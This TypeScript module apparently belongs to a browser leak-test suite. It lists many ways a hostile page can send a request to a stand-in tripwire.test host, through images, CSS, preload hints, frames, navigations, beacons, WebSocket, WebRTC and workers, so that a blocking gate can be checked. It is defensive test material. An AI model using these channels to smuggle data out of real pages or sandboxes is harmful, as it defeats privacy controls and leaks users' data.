/**
 * The ways out of a page that the leak test tries. Each must first be seen to work without a gate; only then does its
 * silence behind the gate count.
 * @module
 */

/** Where a vector tries to get to: names and addresses that belong to this vector alone. */
export interface Target {
  readonly id: string;
  /** `http://<id>.tripwire.test:<port>` */
  readonly origin: string;
  /** The same without `http:`. */
  readonly bare: string;
  readonly host: string;
  readonly port: number;
  /** An IPv4 address, for what needs no name. */
  readonly address: string;
}

/** What the hostile site serves for a vector. */
export interface VectorPage {
  /** Markup of the body; a vector by script is one script element. */
  readonly html: string;
  /** Markup that must stand in the head. */
  readonly head?: string;
  readonly headers?: Readonly<Record<string, string>>;
  /** More files under the vector's own folder, e.g. `worker.js`. */
  readonly files?: Readonly<Record<string, { readonly type: string; readonly body: string }>>;
}

/** One way out. */
export interface Vector {
  readonly id: string;
  /** `click` pages have an element `#go`, which is clicked with `button` and `modifiers`. */
  readonly how: 'html' | 'script' | 'header' | 'click';
  readonly click?: { readonly button?: 'middle'; readonly modifiers?: readonly ('Control' | 'Shift')[] };
  /**
   * Runs after the others, one at a time: Chromium 156 ends the process of all site frames when a frame that was never
   * navigated makes a peer connection under `webrtc=block`.
   */
  readonly alone?: true;
  page(target: Target): VectorPage;
}

const html = (id: string, markup: (t: Target) => string, head?: (t: Target) => string): Vector => ({
  id,
  how: 'html',
  page: (t) => ({ html: markup(t), ...(head === undefined ? {} : { head: head(t) }) }),
});
const inHead = (id: string, head: (t: Target) => string): Vector => html(id, () => '<p>head</p>', head);
const script = (
  id: string,
  code: (t: Target) => string,
  files?: (t: Target) => VectorPage['files'],
): Vector => ({
  id,
  how: 'script',
  page: (t) => {
    const made = files?.(t);
    return {
      html: `<div id="here"></div><script>${code(t)}</script>`,
      ...(made === undefined ? {} : { files: made }),
    };
  },
});
const header = (
  id: string,
  headers: (t: Target) => Record<string, string>,
  markup = '<p>header</p>',
): Vector => ({
  id,
  how: 'header',
  page: (t) => ({ html: markup, headers: headers(t) }),
});
const click = (id: string, markup: (t: Target) => string, how: Vector['click'] = {}): Vector => ({
  id,
  how: 'click',
  click: how,
  page: (t) => ({ html: markup(t) }),
});

const js = 'text/javascript';
/** Runs `code` with a fresh, unpatched window `w` of an empty frame. */
const pristine = (code: string): string =>
  `var f = document.createElement('iframe'); document.body.append(f); var w = f.contentWindow; ${code}`;
/** A file of the hostile site beside the vector's page, as an expression for its URL. */
const beside = (t: Target, name: string): string => `new URL('/files/${t.id}/${name}', location.href)`;
const svg = (inner: string): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="50" height="50">${inner}</svg>`;

const pictures: readonly Vector[] = [
  html('img-src', (t) => `<img src="${t.origin}/x">`),
  html('img-src-bare', (t) => `<img src="${t.bare}/x">`),
  html('img-srcset', (t) => `<img srcset="${t.origin}/x 1x, ${t.origin}/y 2x">`),
  html('picture-source', (t) => `<picture><source srcset="${t.origin}/x"><img alt=""></picture>`),
  html('image-alias', (t) => `<image src="${t.origin}/x">`),
  html('input-image', (t) => `<input type="image" src="${t.origin}/x">`),
  html('body-background', (t) => `<body background="${t.origin}/x">`),
  html('td-background', (t) => `<table><tr><td background="${t.origin}/x">cell</td></tr></table>`),
  html('svg-image', (t) => svg(`<image href="${t.origin}/x" width="9" height="9"/>`)),
  html('svg-xlink-image', (t) => svg(`<image xlink:href="${t.origin}/x" width="9" height="9"/>`)),
  html('svg-feimage', (t) =>
    svg(
      `<filter id="f"><feImage href="${t.origin}/x"/></filter><rect width="9" height="9" filter="url(#f)"/>`,
    ),
  ),
  html(
    'base-relative',
    () => '<img src="x">',
    (t) => `<base href="${t.origin}/">`,
  ),
  html(
    'declarative-shadow',
    (t) => `<div><template shadowrootmode="open"><img src="${t.origin}/x"></template></div>`,
  ),
  script('img-property', (t) => `new Image().src = '${t.origin}/x'`),
  script(
    'srcset-property',
    (t) => `var i = new Image(); i.srcset = '${t.origin}/x'; document.body.append(i)`,
  ),
  script(
    'attribute-node',
    (t) =>
      `var i = new Image(), a = document.createAttribute('src'); a.value = '${t.origin}/x'; i.setAttributeNode(a); document.body.append(i)`,
  ),
  script('inner-html', (t) => `document.getElementById('here').innerHTML = '<img src="${t.origin}/x">'`),
  script(
    'shadow-root',
    (t) =>
      `document.getElementById('here').attachShadow({ mode: 'open' }).innerHTML = '<img src="${t.origin}/x">'`,
  ),
  script('document-write', (t) => `document.write('<img src="${t.origin}/x">')`),
  script(
    'parsed-fragment',
    (t) =>
      `document.body.append(document.createRange().createContextualFragment('<img src="${t.origin}/x">'))`,
  ),
];

const styles: readonly Vector[] = [
  html('css-url', (t) => `<div style="background: url(${t.origin}/x)">x</div>`),
  html(
    'css-escaped-url',
    (t) => `<style>#e { background: \\75rl(${t.origin}/x) }</style><div id="e">x</div>`,
  ),
  html('css-image-set', (t) => `<div style="background: image-set('${t.origin}/x' 1x)">x</div>`),
  html(
    'css-webkit-image-set',
    (t) => `<div style="background: -webkit-image-set(url(${t.origin}/x) 1x)">x</div>`,
  ),
  html('css-import', (t) => `<style>@import "${t.origin}/x.css";</style>`),
  html(
    'css-font-face',
    (t) =>
      `<style>@font-face { font-family: F; src: url(${t.origin}/x.ttf) } p { font-family: F }</style><p>text</p>`,
  ),
  html('css-content', (t) => `<style>#c::before { content: url(${t.origin}/x) }</style><div id="c">x</div>`),
  html('css-mask', (t) => `<div style="mask-image: url(${t.origin}/x); background: red">x</div>`),
  html('css-list-style', (t) => `<ul style="list-style-image: url(${t.origin}/x)"><li>x</li></ul>`),
  html('css-variable', (t) => `<div style="--u: url(${t.origin}/x); background: var(--u)">x</div>`),
  html(
    'stylesheet-link',
    () => '<p>x</p>',
    (t) => `<link rel="stylesheet" href="${t.origin}/x.css">`,
  ),
  script(
    'style-text-node',
    (t) =>
      `var s = document.createElement('style'); s.append(document.createTextNode('body { background: url(${t.origin}/x) }')); document.head.append(s)`,
  ),
  script('style-property', (t) => `document.body.style.backgroundImage = 'url(${t.origin}/x)'`),
  script(
    'insert-rule',
    (t) =>
      `var s = document.createElement('style'); document.head.append(s); s.sheet.insertRule('body { background: url(${t.origin}/x) }')`,
  ),
  script(
    'adopted-sheet',
    (t) =>
      `var s = new CSSStyleSheet(); s.replaceSync('body { background: url(${t.origin}/x) }'); document.adoptedStyleSheets = [s]`,
  ),
  script('font-face-object', (t) => `new FontFace('G', 'url(${t.origin}/x.ttf)').load().catch(() => 0)`),
];

const hints: readonly Vector[] = [
  inHead('preconnect', (t) => `<link rel="preconnect" href="${t.origin}">`),
  inHead('dns-prefetch', (t) => `<link rel="dns-prefetch" href="${t.bare}">`),
  inHead('prefetch', (t) => `<link rel="prefetch" href="${t.origin}/x">`),
  inHead('preload', (t) => `<link rel="preload" as="image" href="${t.origin}/x">`),
  inHead('preload-srcset', (t) => `<link rel="preload" as="image" imagesrcset="${t.origin}/x">`),
  inHead('modulepreload', (t) => `<link rel="modulepreload" href="${t.origin}/x.js">`),
  inHead(
    'speculation-prefetch',
    (t) =>
      `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["https:${t.bare}/x"],"eagerness":"immediate"}]}</script>`,
  ),
  inHead(
    'speculation-prerender',
    (t) =>
      `<script type="speculationrules">{"prerender":[{"source":"list","urls":["https:${t.bare}/x"],"eagerness":"immediate"}]}</script>`,
  ),
  inHead('favicon', (t) => `<link rel="icon" href="${t.origin}/x.ico">`),
  inHead('manifest', (t) => `<link rel="manifest" href="${t.origin}/x.json">`),
  inHead('meta-refresh', (t) => `<meta http-equiv="refresh" content="0; url=${t.origin}/x">`),
  header('refresh-header', (t) => ({ refresh: `0; url=${t.origin}/x` })),
  header('link-preload-header', (t) => ({ link: `<${t.origin}/x>; rel=preload; as=image` })),
  header('link-preconnect-header', (t) => ({ link: `<${t.origin}>; rel=preconnect` })),
  header('link-dns-prefetch-header', (t) => ({ link: `<${t.bare}>; rel=dns-prefetch` })),
  header(
    'csp-report-uri',
    (t) => ({ 'content-security-policy': `img-src 'none'; report-uri ${t.origin}/x` }),
    '<img src="/nothing">',
  ),
  script(
    'preconnect-by-script',
    (t) =>
      `var l = document.createElement('link'); l.rel = 'preconnect'; l.href = '${t.origin}'; document.head.append(l)`,
  ),
  script(
    'speculation-by-script',
    (t) =>
      `var s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = '{"prefetch":[{"source":"list","urls":["https:${t.bare}/x"],"eagerness":"immediate"}]}'; document.head.append(s)`,
  ),
];

const media: readonly Vector[] = [
  html('script-src', (t) => `<script src="${t.origin}/x.js"></script>`),
  html('video-src', (t) => `<video src="${t.origin}/x" preload="auto"></video>`),
  html('video-poster', (t) => `<video poster="${t.origin}/x"></video>`),
  html('audio-source', (t) => `<audio preload="auto"><source src="${t.origin}/x"></audio>`),
  html(
    'track',
    (t) =>
      `<video crossorigin="anonymous" src="data:video/mp4;base64,AAAA"><track default src="${t.origin}/x.vtt"></video>`,
  ),
  html('object', (t) => `<object data="${t.origin}/x"></object>`),
  html('embed', (t) => `<embed src="${t.origin}/x">`),
  html('svg-script', (t) => svg(`<script href="${t.origin}/x.js"></script>`)),
  html('svg-document', (t) => `<iframe src="/files/${t.id}/x.svg"></iframe>`),
];

const frames: readonly Vector[] = [
  html('iframe-src', (t) => `<iframe src="${t.origin}/x"></iframe>`),
  html('iframe-srcdoc', (t) => `<iframe srcdoc="<img src='${t.origin}/x'>"></iframe>`),
  html('iframe-data', (t) => `<iframe src="data:text/html,<img src='${t.origin}/x'>"></iframe>`),
  html(
    'iframe-javascript',
    (t) => `<iframe src="javascript:'<img src=&quot;${t.origin}/x&quot;>'"></iframe>`,
  ),
  script(
    'frame-blob',
    (t) =>
      `var f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob(['<img src="${t.origin}/x">'], { type: 'text/html' })); document.body.append(f)`,
  ),
  script('frame-location', (t) => pristine(`w.location = '${t.origin}/x'`)),
  script('frame-fetch', (t) => pristine(`w.fetch('${t.origin}/x', { mode: 'no-cors' }).catch(() => 0)`)),
  script(
    'frames-0-fetch',
    (t) =>
      `document.body.insertAdjacentHTML('beforeend', '<iframe></iframe>'); frames[0].fetch('${t.origin}/x', { mode: 'no-cors' }).catch(() => 0)`,
  ),
  script('frame-image', (t) => pristine(`new w.Image().src = '${t.origin}/x'`)),
  script('frame-beacon', (t) => pristine(`w.navigator.sendBeacon('${t.origin}/x', 'b')`)),
  script('frame-websocket', (t) => pristine(`new w.WebSocket('ws:${t.bare}/x')`)),
  { ...script('frame-webrtc', (t) => pristine(webrtc(t, 'w.'))), alone: true },
  script('frame-worker', (t) =>
    pristine(
      `new w.Worker(w.URL.createObjectURL(new w.Blob(["fetch('${t.origin}/x', { mode: 'no-cors' })"])))`,
    ),
  ),
  script(
    'srcdoc-realm',
    (t) =>
      `var f = document.createElement('iframe'); f.srcdoc = '<script>fetch("${t.origin}/x", { mode: "no-cors" })<\\/script>'; document.body.append(f)`,
  ),
  script(
    'data-realm',
    (t) =>
      `var f = document.createElement('iframe'); f.src = 'data:text/html,<script>fetch("${t.origin}/x", { mode: "no-cors" })<\\/script>'; document.body.append(f)`,
  ),
  script('frame-form', (t) =>
    pristine(
      `var d = w.document; d.body.innerHTML = '<form action="${t.origin}/x" method="post"></form>'; d.forms[0].submit()`,
    ),
  ),
];

const navigations: readonly Vector[] = [
  script('location', (t) => `location = '${t.origin}/x'`),
  script('location-assign', (t) => `location.assign('${t.origin}/x')`),
  script('location-replace', (t) => `location.replace('${t.origin}/x')`),
  script('top-location', (t) => `top.location = '${t.origin}/x'`),
  script(
    'form-get',
    (t) =>
      `document.body.innerHTML = '<form action="${t.origin}/x"><input name="q" value="1"></form>'; document.forms[0].submit()`,
  ),
  script(
    'form-post',
    (t) =>
      `document.body.innerHTML = '<form method="post" action="${t.origin}/x"><input name="q" value="1"></form>'; document.forms[0].submit()`,
  ),
  script(
    'anchor-click',
    (t) =>
      `var a = document.createElement('a'); a.href = '${t.origin}/x'; document.body.append(a); a.click()`,
  ),
  script('window-open-unasked', (t) => `window.open('${t.origin}/x')`),
  click('anchor', (t) => `<a id="go" href="${t.origin}/x">go</a>`),
  click('anchor-ping', (t) => `<a id="go" href="#here" ping="${t.origin}/x">go</a>`),
  click('anchor-download', (t) => `<a id="go" download="x.txt" href="${t.origin}/x">go</a>`),
  click('anchor-ctrl-click', (t) => `<a id="go" href="${t.origin}/x">go</a>`, { modifiers: ['Control'] }),
  click('anchor-middle-click', (t) => `<a id="go" href="${t.origin}/x">go</a>`, { button: 'middle' }),
  click('anchor-shift-click', (t) => `<a id="go" href="${t.origin}/x">go</a>`, { modifiers: ['Shift'] }),
  click('anchor-blank', (t) => `<a id="go" target="_blank" href="${t.origin}/x">go</a>`),
  click('anchor-top', (t) => `<a id="go" target="_top" href="${t.origin}/x">go</a>`),
  click('window-open', (t) => `<button id="go" onclick="window.open('${t.origin}/x')">go</button>`),
  click(
    'formaction',
    (t) => `<form method="post"><button id="go" formaction="${t.origin}/x">go</button></form>`,
  ),
  click(
    'form-blank',
    (t) => `<form method="post" target="_blank" action="${t.origin}/x"><button id="go">go</button></form>`,
  ),
  click(
    'image-map',
    (t) =>
      `<img usemap="#m" width="90" height="90" alt="" src="data:image/svg+xml,${encodeURIComponent(svg(''))}" id="go"><map name="m"><area shape="default" href="${t.origin}/x"></map>`,
  ),
  click('svg-anchor', (t) => svg(`<a href="${t.origin}/x"><rect id="go" width="40" height="40"/></a>`)),
];

const calls: readonly Vector[] = [
  script('fetch', (t) => `fetch('${t.origin}/x').catch(() => 0)`),
  script(
    'fetch-keepalive',
    (t) =>
      `fetch('${t.origin}/x', { method: 'POST', body: 'b', keepalive: true, mode: 'no-cors' }).catch(() => 0)`,
  ),
  script('fetch-later', (t) => `fetchLater('https:${t.bare}/x', { activateAfter: 0 })`),
  script('xhr', (t) => `var q = new XMLHttpRequest(); q.open('GET', '${t.origin}/x'); q.send()`),
  script('send-beacon', (t) => `navigator.sendBeacon('${t.origin}/x', 'b')`),
  script('websocket', (t) => `new WebSocket('ws:${t.bare}/x')`),
  script('event-source', (t) => `new EventSource('${t.origin}/x')`),
  script('webrtc-name', (t) => webrtc(t, '')),
  script('webrtc-address', (t) => webrtc({ ...t, host: t.address }, '')),
  script(
    'webrtc-turn-tcp',
    (t) =>
      `var c = new RTCPeerConnection({ iceServers: [{ urls: 'turn:${t.host}:3478?transport=tcp', username: 'u', credential: 'p' }] }); c.createDataChannel('d'); c.createOffer().then((o) => c.setLocalDescription(o))`,
  ),
  script('webrtc-candidate-name', (t) => peers(t.host)),
  script('webrtc-candidate-local', (t) => peers(`${t.id}.local`)),
  script('webtransport', (t) => `new WebTransport('https:${t.bare}/x').ready.catch(() => 0)`),
  script('dynamic-import', (t) => `import('${t.origin}/x.js').catch(() => 0)`),
  script(
    'audio-worklet',
    (t) => `new OfflineAudioContext(1, 1, 44100).audioWorklet.addModule('${t.origin}/x.js').catch(() => 0)`,
  ),
  script(
    'worker-fetch',
    (t) => `new Worker(${beside(t, 'worker.js')})`,
    (t) => ({ 'worker.js': { type: js, body: `fetch('${t.origin}/x', { mode: 'no-cors' })` } }),
  ),
  script(
    'worker-import-scripts',
    (t) => `new Worker(${beside(t, 'worker.js')})`,
    (t) => ({ 'worker.js': { type: js, body: `importScripts('${t.origin}/x.js')` } }),
  ),
  script(
    'worker-module-import',
    (t) => `new Worker(${beside(t, 'worker.js')}, { type: 'module' })`,
    (t) => ({ 'worker.js': { type: js, body: `import '${t.origin}/x.js'` } }),
  ),
  script(
    'worker-websocket',
    (t) => `new Worker(${beside(t, 'worker.js')})`,
    (t) => ({ 'worker.js': { type: js, body: `new WebSocket('ws:${t.bare}/x')` } }),
  ),
  script(
    'worker-blob-xhr',
    (t) =>
      `new Worker(URL.createObjectURL(new Blob(["var q = new XMLHttpRequest(); q.open('GET', '${t.origin}/x'); q.send()"])))`,
  ),
  script(
    'shared-worker',
    (t) => `new SharedWorker(${beside(t, 'worker.js')})`,
    (t) => ({ 'worker.js': { type: js, body: `fetch('${t.origin}/x', { mode: 'no-cors' })` } }),
  ),
  script(
    'service-worker',
    (t) => `navigator.serviceWorker.register(${beside(t, 'worker.js')})`,
    (t) => ({
      'worker.js': { type: js, body: `fetch('${t.origin}/x', { mode: 'no-cors' }).catch(() => 0)` },
    }),
  ),
];

/** Makes a peer connection that asks a STUN server for its address; `realm` is `w.` for another window's. */
function webrtc(t: Pick<Target, 'host'>, realm: string): string {
  return `var c = new ${realm}RTCPeerConnection({ iceServers: [{ urls: 'stun:${t.host}:3478' }] }); c.createDataChannel('d'); c.createOffer().then((o) => c.setLocalDescription(o))`;
}

/** Two peers in one page, one of which is told that the other is at `host`: the page chooses a name to look up. */
function peers(host: string): string {
  return `var a = new RTCPeerConnection(), b = new RTCPeerConnection(); a.createDataChannel('d');
(async () => {
  await a.setLocalDescription(await a.createOffer());
  await b.setRemoteDescription(a.localDescription);
  await b.setLocalDescription(await b.createAnswer());
  await a.setRemoteDescription(b.localDescription);
  await a.addIceCandidate({ candidate: 'candidate:1 1 udp 2122260223 ${host} 5000 typ host', sdpMid: '0', sdpMLineIndex: 0 });
})()`;
}

/** The SVG document of `svg-document` asks for a picture and a script of its own. */
const svgDocument = (vector: Vector): Vector =>
  vector.id !== 'svg-document'
    ? vector
    : {
        ...vector,
        page: (t) => ({
          ...vector.page(t),
          files: {
            'x.svg': {
              type: 'image/svg+xml',
              body: svg(
                `<script href="${t.origin}/x.js"/><image href="${t.origin}/x" width="9" height="9"/>`,
              ),
            },
          },
        }),
      };

/** All of them, with ids that are also DNS labels. */
export const vectors: readonly Vector[] = [
  ...pictures,
  ...styles,
  ...hints,
  ...media.map(svgDocument),
  ...frames,
  ...navigations,
  ...calls,
];
